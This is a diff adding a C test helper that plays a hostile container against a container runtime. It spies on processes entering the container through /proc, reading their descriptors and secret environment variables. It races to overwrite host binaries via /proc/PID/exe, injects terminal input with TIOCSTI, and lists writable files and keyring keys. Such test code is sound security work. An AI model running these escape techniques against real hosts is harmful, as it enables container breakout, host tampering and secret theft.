@@ -1,0 +1,273 @@
+/*
+ * What a hostile container does while the host's runtime works on it; for tests:
+ *
+ *   attack spy SECONDS       looks into every process that appears beside it: descriptors, root, directory, environment
+ *   attack exe SECONDS       tries to write to the binary of every such process, also after it has ended
+ *   attack inject TEXT       pushes characters into the terminal on descriptor 0
+ *   attack writable DIR…     files below that can be opened for writing; nothing is written
+ *   attack keys              the session keyring and the names of the keys in it
+ *   attack with-key NAME PROGRAM [ARG…]   (on the host) executes PROGRAM with such a key in the session keyring
+ */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define AHEAD 4
+
+static double now(void) {
+  struct timespec at;
+  clock_gettime(CLOCK_MONOTONIC, &at);
+  return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
+}
+
+/* Calls `look` for pids after ours as soon as they exist, until time is up. Returns how many looks met a process. */
+static long hunt(double seconds, int (*look)(int pid)) {
+  double end = now() + seconds;
+  int next = getpid() + 1;
+  long met = 0;
+  while (now() < end) {
+    for (int round = 0; round < 200; round++) {
+      for (int pid = next; pid < next + AHEAD; pid++) {
+        char path[32];
+        snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+        if (access(path, F_OK) < 0) {
+          continue;
+        }
+        /* As long as it lives. */
+        while (look(pid) >= 0) {
+          met++;
+        }
+        next = pid + 1;
+        break;
+      }
+    }
+  }
+  return met;
+}
+
+static void tell(int pid, const char *what, const char *target) {
+  printf("seen %s %s of %d\n", what, target, pid);
+  fflush(stdout);
+}
+
+static int harmless(const char *target) {
+  static const char *const starts[] = {"pipe:", "socket:", "/dev/null", "anon_inode:[pidfd]", "/proc/"};
+  for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++) {
+    if (strncmp(target, starts[i], strlen(starts[i])) == 0) {
+      return 1;
+    }
+  }
+  return 0;
+}
+
+/* A root shows as "/" whosever it is. One that is gone by now is nobody's. */
+static int is_our_root(const char *path) {
+  struct stat at, ours;
+  if (stat(path, &at) < 0) {
+    return errno == ENOENT || errno == ESRCH;
+  }
+  return stat("/", &ours) == 0 && at.st_dev == ours.st_dev && at.st_ino == ours.st_ino;
+}
+
+static int spy_on(int pid) {
+  char path[64], target[256], text[4096];
+  static const char *const links[] = {"cwd", "root"};
+  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+  DIR *dir = opendir(path);
+  for (int i = 0; i < 2; i++) {
+    snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
+    ssize_t n = readlink(path, target, sizeof(target) - 1);
+    if (n > 0 && !is_our_root(path)) {
+      target[n] = '\0';
+      tell(pid, links[i], target);
+    }
+  }
+  snprintf(path, sizeof(path), "/proc/%d/environ", pid);
+  int environment = open(path, O_RDONLY);
+  ssize_t size = environment < 0 ? 0 : read(environment, text, sizeof(text) - 1);
+  text[size < 0 ? 0 : size] = '\0';
+  for (char *word = text; word < text + size; word += strlen(word) + 1) {
+    if (strstr(word, "SECRET") != NULL) {
+      tell(pid, "environment", word);
+    }
+  }
+  if (environment >= 0) {
+    close(environment);
+  }
+  if (dir == NULL) {
+    return errno == EACCES ? 0 : -1;
+  }
+  struct dirent *entry;
+  int seen = 0;
+  while ((entry = readdir(dir)) != NULL) {
+    seen++;
+    snprintf(path, sizeof(path), "/proc/%d/fd/%.16s", pid, entry->d_name);
+    ssize_t n = entry->d_name[0] == '.' ? -1 : readlink(path, target, sizeof(target) - 1);
+    if (n > 0) {
+      target[n] = '\0';
+      if (!harmless(target) && !is_our_root(path)) {
+        tell(pid, "descriptor", target);
+      }
+    }
+  }
+  closedir(dir);
+  return seen == 0 ? -1 : 0;
+}
+
+static int do_spy(char **args) {
+  printf("spying\n");
+  fflush(stdout);
+  long met = hunt(atof(args[0]), spy_on);
+  printf("looked %ld times\n", met);
+  return 0;
+}
+
+static int write_to(int pid) {
+  static const char text[] = "overwritten";
+  char path[64], target[256], again[64];
+  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+  ssize_t n = readlink(path, target, sizeof(target) - 1);
+  if (n < 0) {
+    return errno == EACCES ? 0 : -1;
+  }
+  target[n] = '\0';
+  int held = open(path, O_PATH | O_CLOEXEC);
+  if (held < 0) {
+    return 0;
+  }
+  snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
+  n = readlink(again, target, sizeof(target) - 1);
+  target[n < 0 ? 0 : n] = '\0';
+  if (strncmp(target, "/bin/", 5) == 0) {
+    close(held);
+    return 0; /* The container's own. */
+  }
+  printf("binary %s\n", target);
+  /* While it runs it is busy; the trick is to wait until it is not. */
+  for (int i = 0; i < 20000; i++) {
+    int fd = open(again, i % 2 == 0 ? O_WRONLY : O_RDWR | O_TRUNC);
+    if (fd >= 0) {
+      ssize_t written = write(fd, text, sizeof(text));
+      printf("opened %s, write: %s\n", target, written < 0 ? strerror(errno) : "ok");
+      fflush(stdout);
+      close(fd);
+      break;
+    }
+  }
+  close(held);
+  return -1;
+}
+
+static int do_exe(char **args) {
+  printf("writing\n");
+  fflush(stdout);
+  long met = hunt(atof(args[0]), write_to);
+  printf("looked %ld times\n", met);
+  return 0;
+}
+
+static int do_inject(char **args) {
+  for (const char *c = args[0]; *c != '\0'; c++) {
+    if (ioctl(0, TIOCSTI, c) < 0) {
+      printf("inject: %s\n", strerror(errno));
+      return 0;
+    }
+  }
+  puts("inject: ok");
+  return 0;
+}
+
+static void list_writable(const char *directory, int depth) {
+  DIR *dir = opendir(directory);
+  struct dirent *entry;
+  while (dir != NULL && (entry = readdir(dir)) != NULL) {
+    char path[4096];
+    const char *name = entry->d_name;
+    /* Processes are no business of this test. */
+    int process = strcmp(directory, "/proc") == 0 && (strchr("0123456789", name[0]) != NULL || strstr(name, "self"));
+    if (strcmp(name, ".") == 0 || strcmp(name, "..") == 0 || process || depth > 24) {
+      continue;
+    }
+    snprintf(path, sizeof(path), "%s/%s", directory, name);
+    if (entry->d_type == DT_DIR) {
+      list_writable(path, depth + 1);
+    } else if (entry->d_type == DT_REG) {
+      int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_NOFOLLOW);
+      if (fd >= 0) {
+        puts(path);
+        close(fd);
+      }
+    }
+  }
+  if (dir != NULL) {
+    closedir(dir);
+  }
+}
+
+static int do_writable(char **args) {
+  for (; *args != NULL; args++) {
+    list_writable(*args, 0);
+  }
+  puts("listed");
+  return 0;
+}
+
+static int do_keys(char **args) {
+  int keys[64];
+  char text[256];
+  (void)args;
+  long n = syscall(SYS_keyctl, KEYCTL_READ, KEY_SPEC_SESSION_KEYRING, keys, sizeof(keys));
+  if (n < 0) {
+    printf("keys: %s\n", strerror(errno));
+    return 0;
+  }
+  syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof(text));
+  printf("keyring %s\n", text);
+  for (long i = 0; i < n / (long)sizeof(int); i++) {
+    syscall(SYS_keyctl, KEYCTL_DESCRIBE, keys[i], text, sizeof(text));
+    printf("key %s\n", text);
+  }
+  return 0;
+}
+
+/* On the host: a key in a session keyring of its own, then the program. */
+static int do_with_key(char **args) {
+  if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "attack") < 0 ||
+      syscall(SYS_add_key, "user", args[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) {
+    perror("attack: key");
+    return 3;
+  }
+  execv(args[1], args + 1);
+  perror(args[1]);
+  return 127;
+}
+
+static const struct {
+  const char *name;
+  int least;
+  int (*run)(char **args);
+} verbs[] = {
+    {"spy", 1, do_spy},   {"exe", 1, do_exe},           {"inject", 1, do_inject},
+    {"keys", 0, do_keys}, {"with-key", 2, do_with_key}, {"writable", 1, do_writable},
+};
+
+int main(int argc, char **argv) {
+  for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++) {
+    if (strcmp(verbs[i].name, argv[1]) == 0 && argc - 2 >= verbs[i].least) {
+      return verbs[i].run(argv + 2);
+    }
+  }
+  fputs("attack: bad verb\n", stderr);
+  return 2;
+}
